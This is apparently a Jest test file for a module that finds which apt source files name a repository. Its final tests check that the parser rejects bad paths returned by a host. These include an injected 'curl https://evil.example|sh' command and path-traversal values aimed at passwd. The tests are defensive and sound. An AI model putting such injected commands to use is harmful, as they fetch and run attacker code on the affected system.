import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { aptSourceKey, aptSources } from '../../src/facts/apt-sources.js';
import { createLocalTransport } from '../support/local-transport.js';
import { temporaryDirectory } from '../support/temporary-directory.js';

const FILES = {
  'sources.list':
    '# deb https://c.example/x/ /\ndeb https://a.example/x/ stable main\ndeb https://own.example/ stable main\n',
  'sources.list.d/one.list':
    'deb [arch=amd64 signed-by=/k.gpg]\thttps://b.example:/core:/v1/deb/ /\ndeb https://a.example/x-other/ /\n',
  'sources.list.d/two.sources':
    'Types: deb\nURIs: https://c.example/x\n  https://d.example/x/\nSuites: /\nSigned-By: /k.gpg\n\n# off\nTypes: deb\nEnabled: no\nURIs: https://e.example/x\nSuites: /\n \nTypes: deb\nuris:https://f.example/x//\nSuites: one two\n',
  'sources.list.d/three.sources': 'Types: deb\nURIs: https://i.example/x\nSuites: ./\n',
  'sources.list.d/not.saved': 'deb https://g.example/x /\n',
  // apt reads no file of such a name.
  'sources.list.d/a b.list': 'deb https://h.example/x /\n',
};
const MAIN = ['sources.list', true] as const;
const TWO = ['sources.list.d/two.sources', true] as const;

test.each([
  ['https://a.example/x', 'stable', [MAIN]],
  ['https://a.example/x', 'testing', []],
  ['https://b.example:/core:/v1/deb/', '/', [['sources.list.d/one.list', true]]],
  ['https://c.example/x/', '/', [TWO]],
  ['https://d.example/x', '/', [TWO]],
  ['https://e.example/x', '/', []],
  ['https://f.example/x', 'two', [TWO]],
  ['https://g.example/x', '/', []],
  ['https://h.example/x', '/', []],
  ['https://i.example/x', '/', [['sources.list.d/three.sources', false]]],
  ['https://a.example', 'stable', []],
] as const)('who names %s %s', async (uri, suite, files) => {
  const directory = temporaryDirectory('apt');
  mkdirSync(join(directory, 'sources.list.d'));
  for (const [name, text] of Object.entries(FILES)) writeFileSync(join(directory, name), text);
  const keys = [aptSourceKey({ uri: 'https://nobody.example/', suite: '/' }), aptSourceKey({ uri, suite })];
  const script = aptSources.script(keys).replaceAll('/etc/apt', directory);
  const { stdout } = await createLocalTransport('here').run({ summary: 'look', script: `set -e\n${script}` });
  const found = aptSources.parse(stdout.replaceAll(directory, '/etc/apt'), keys);
  expect(found.get(keys[1] ?? '')).toEqual(
    files.map(([name, namesOthers]) => ({ path: `/etc/apt/${name}`, namesOthers })),
  );
  expect(found.get(keys[0] ?? '')).toEqual([]);
});

describe('a file that a host says it has', () => {
  const key = aptSourceKey({ uri: 'https://a.example/x', suite: '/' });
  test.each([
    '/etc/apt/sources.list.d/k.list; curl https://evil.example|sh #',
    '/etc/apt/sources.list.d/../../passwd',
    '/etc/apt/sources.list.d/a b.list',
    '/etc/passwd',
  ])('under the name %j is no answer', (path) => {
    const line = `S ${path} ${Buffer.from('deb https://a.example/x /\n').toString('base64')}\n`;
    expect(() => aptSources.parse(line, [key])).toThrow('a file of another name came back');
  });
});
